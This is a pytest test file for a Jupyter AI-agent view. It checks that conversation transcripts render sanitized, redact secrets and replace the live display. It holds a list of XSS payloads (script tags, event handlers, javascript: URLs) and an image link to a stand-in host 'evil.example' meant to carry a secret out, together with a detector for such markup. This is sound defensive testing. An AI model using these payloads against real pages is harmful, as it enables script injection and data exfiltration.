"""The static transcript that replaces the live view when a run ends (and shows a stored
history): readable, sanitized, without secrets; and finish() putting it in the live view's
place through the same display id."""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from IPython.core.displaypub import CapturingDisplayPublisher
from IPython.core.interactiveshell import InteractiveShell
from view_support import HEADER, Recorder, record_comms, reply_events

from mibyan_jupyter.core.events import ToolExecutionEnd
from mibyan_jupyter.core.messages import (
    AssistantMessage,
    FunctionCall,
    ImagePart,
    ImageUrl,
    Message,
    TextPart,
    Thinking,
    ToolCall,
    ToolMessage,
    Usage,
    UserMessage,
)
from mibyan_jupyter.jupyter.view import AgentView, render_transcript

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x01" * 40).decode()
KEY = "sk-live-" + "k3Y" * 9

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![i](javascript:alert(1))",
    '<a href="javascript:alert(1)">a</a>',
    "<a href='jav&#x09;ascript:alert(1)'>t</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<style>body{display:none}</style>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<object data=javascript:alert(1)></object><base href=javascript:alert(1)//>",
    "<a href=x onmouseover=alert(1)>hover</a>",
    "```html\n<script>alert(1)</script>\n```",
    "<div style=\"background:url('javascript:alert(1)')\">s</div>",
    "![leak](https://evil.example/?q=secret) <img src=https://evil.example/pixel.png>",
]
CORPUS = "\n\n".join(XSS)

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "form", "base"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}


class Inert(HTMLParser):
    """Collects everything in an HTML text that could run: forbidden elements, event
    handler attributes, script URLs, data: URLs other than validated PNGs, inline styles
    with url()."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style" and "url(" in value.lower():
                self.problems.append(f"{tag} style url()")
            if name in URL_ATTRIBUTES:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                if re.match(r"(java|vb)script:", plain):
                    self.problems.append(f"{tag} {name}={value}")
                if plain.startswith("data:") and not re.fullmatch(
                    r"data:image/png;base64,[a-z0-9+/]+=*", plain
                ):
                    self.problems.append(f"{tag} {name}=data:")


def assert_inert(html: str) -> None:
    parser = Inert()
    parser.feed(html)
    parser.close()
    assert parser.problems == []
    assert "<script" not in html.lower()


def conversation(extra: str = "") -> list[Message]:
    """A run with thinking, Python with outputs (stream, image, error), another tool with a
    long result, an unanswered call, and ``extra`` text everywhere model or tool text goes."""
    code = f"import matplotlib.pyplot as plt\nplt.plot([1, 2])\nprint('hi')  # {extra}"
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": f"hi {extra}\n"},
        {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": "<Figure>"}},
        {"output_type": "display_data", "data": {"text/html": f"<b>table</b>{extra}"}},
        {"output_type": "display_data", "data": {"image/png": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}},
        {"output_type": "error", "ename": "ValueError", "evalue": f"bad {extra}", "traceback": []},
    ]
    return [
        UserMessage(content=f"Plot **x** {extra}"),
        AssistantMessage(
            content=f"I'll plot it. {extra}",
            thinking=(Thinking(text=f"consider the axes {extra}"),),
            tool_calls=(
                ToolCall(id="c1", function=FunctionCall(name="run_python", arguments=_json(code))),
            ),
            usage=Usage(input=100, output=20, total=120, cost=0.0012),
        ),
        ToolMessage(
            tool_call_id="c1",
            name="run_python",
            content="hi",
            details={"outputs": outputs, "private": "not exported"},
        ),
        AssistantMessage(
            content="",
            tool_calls=(
                ToolCall(
                    id="c2",
                    function=FunctionCall(name="search", arguments=_json(f"q {extra}", "q")),
                ),
                ToolCall(id="c3", function=FunctionCall(name="write_file", arguments="{}")),
            ),
            usage=Usage(input=200, output=10, total=210, cost=0.002),
        ),
        ToolMessage(
            tool_call_id="c2",
            name="search",
            content=(
                TextPart(text=f"{extra}" + "y" * 3000),
                ImagePart(image_url=ImageUrl(url="javascript:alert(1)")),
            ),
        ),
        AssistantMessage(content=f"Done. {extra}", usage=Usage(input=300, output=5, total=305)),
    ]


def _json(value: str, key: str = "code") -> str:
    import json

    return json.dumps({key: value})


def test_the_transcript_reads_as_the_conversation() -> None:
    bundle = render_transcript(conversation(), header=HEADER, status="completed")
    assert set(bundle) == {"text/html", "text/markdown", "text/plain"}
    page = bundle["text/html"]
    assert page.startswith('<div class="mibyan-transcript" data-status="completed"')
    assert page.count('class="mibyan-user"') == 1
    assert page.count('class="mibyan-assistant"') == 2  # the calls-only reply has no text
    assert page.count('class="mibyan-tool"') == 3  # python, search, the unanswered call
    assert "<strong>x</strong>" in page
    assert '<details class="mibyan-thinking"><summary>Thinking</summary>' in page
    assert "consider the axes" in page
    assert "plt.plot([1, 2])" in page
    assert f'<img src="data:image/png;base64,{PNG}"' in page
    assert page.count("<img") == 1  # the fake PNG (an SVG) and the javascript: image are dropped
    assert "<b>table</b>" in page
    assert "ValueError: bad" in page
    assert "truncated, 1,000 more characters" in page
    assert "No result was recorded" in page
    assert "not exported" not in page
    footer = re.search(r'<div class="mibyan-footer"[^>]*>(.*?)</div>', page)
    assert footer is not None
    assert footer[1] == (
        "demo (demo model) · 3 turns · 635 tokens · $0.0032 · completed · "
        "Explore the data · session s-1234"
    )
    markdown = bundle["text/markdown"]
    assert markdown.startswith("**You**\n\nPlot **x**")
    assert "```python\nimport matplotlib.pyplot as plt" in markdown
    assert "*(image)*" in markdown
    assert "truncated, 1,000 more characters" in markdown
    plain = bundle["text/plain"]
    assert plain.startswith("You:\nPlot **x**")
    assert "Python (run_python):\nimport matplotlib" in plain
    assert plain.endswith("session s-1234")


def test_an_empty_history_and_an_interrupted_status() -> None:
    bundle = render_transcript([], header=HEADER, status="interrupted", usage=Usage(total=7))
    assert 'data-status="interrupted"' in bundle["text/html"]
    assert "0 turns · 7 tokens · cost unknown · interrupted" in bundle["text/plain"]


def test_model_and_tool_output_render_inert() -> None:
    bundle = render_transcript(conversation(CORPUS), header=HEADER, status="completed")
    assert_inert(bundle["text/html"])
    # No image loads by itself (a URL could carry data out); only the validated PNG is one.
    assert bundle["text/html"].count("<img") == 1
    assert (
        '<a href="https://evil.example/?q=secret" rel="noopener noreferrer">' in bundle["text/html"]
    )
    # The payloads are shown as text, not dropped without a trace.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in bundle["text/html"]
    markdown = bundle["text/markdown"]
    assert "<script>" not in markdown.replace("```html\n<script>", "")  # code stays code
    assert "](javascript:" not in markdown.lower()
    assert "onerror=alert(1)>" not in markdown.replace("&lt;img src=x onerror=alert(1)>", "")


def test_the_live_view_sends_only_inert_html(monkeypatch: pytest.MonkeyPatch) -> None:
    recorder = record_comms(monkeypatch)
    view = AgentView(HEADER, prompt=CORPUS)
    for event in reply_events([CORPUS[i : i + 7] for i in range(0, len(CORPUS), 7)]):
        view(event)
    result = conversation(CORPUS)[2]
    assert isinstance(result, ToolMessage)
    view(ToolExecutionEnd(call_id="c1", name="run_python", result=result, is_error=False))
    finals = recorder.ops("final")
    assert len(finals) == 1
    assert_inert(finals[0]["html"])
    assert "<img" not in finals[0]["html"]
    assert recorder.ops("result")[0]["images"] == [f"data:image/png;base64,{PNG}"]
    # Text ops carry the payload verbatim: the front end sets them with textContent.
    assert recorder.streamed("text", "a1") == CORPUS


def test_no_secret_in_the_transcript(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MIBYAN_TRANSCRIPT_TEST_API_KEY", KEY)
    bundle = render_transcript(conversation(KEY), header=HEADER, status="completed")
    for value in bundle.values():
        assert KEY not in value
        assert "[redacted]" in value


@pytest.fixture
def display_pub(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[dict]]:
    """An IPython shell whose displays are captured instead of published."""
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    created = not InteractiveShell.initialized()
    shell = InteractiveShell.instance()
    publisher = CapturingDisplayPublisher()
    monkeypatch.setattr(shell, "display_pub", publisher)
    yield publisher.outputs
    if created:
        InteractiveShell.clear_instance()


def test_finish_replaces_the_live_view_by_the_transcript(
    monkeypatch: pytest.MonkeyPatch, display_pub: list[dict]
) -> None:
    monkeypatch.setenv("MIBYAN_FINISH_TEST_API_KEY", KEY)
    recorder: Recorder = record_comms(monkeypatch)
    view = AgentView(HEADER, prompt=f"Plot **x** {KEY}")
    view.display()
    live = display_pub[0]
    assert "application/vnd.jupyter.widget-view+json" in live["data"]
    display_id = live["transient"]["display_id"]
    messages = conversation(CORPUS + KEY)
    for event in reply_events(["I'll plot it."]):
        view(event)
    view.finish(messages, status="stopped")
    view.finish(messages, status="completed")  # idempotent: nothing more is displayed
    assert len(display_pub) == 2
    final = display_pub[1]
    assert final["update"] is True
    assert final["transient"] == {"display_id": display_id}
    assert set(final["data"]) == {"text/html", "text/markdown", "text/plain"}
    assert final["data"] == render_transcript(messages, header=HEADER, status="stopped")
    assert_inert(final["data"]["text/html"])
    assert 'data-status="stopped"' in final["data"]["text/html"]
    assert recorder.sent[-1].msg_type == "comm_close"
    for value in final["data"].values():
        assert KEY not in value
    assert KEY not in recorder.everything()


def test_finish_without_display_shows_the_transcript(
    monkeypatch: pytest.MonkeyPatch, display_pub: list[dict]
) -> None:
    record_comms(monkeypatch)
    view = AgentView(HEADER, prompt=None)
    view.finish([UserMessage(content="hi"), AssistantMessage(content="hello")], status="completed")
    assert len(display_pub) == 1
    assert display_pub[0]["update"] is False
    assert "hello" in display_pub[0]["data"]["text/html"]
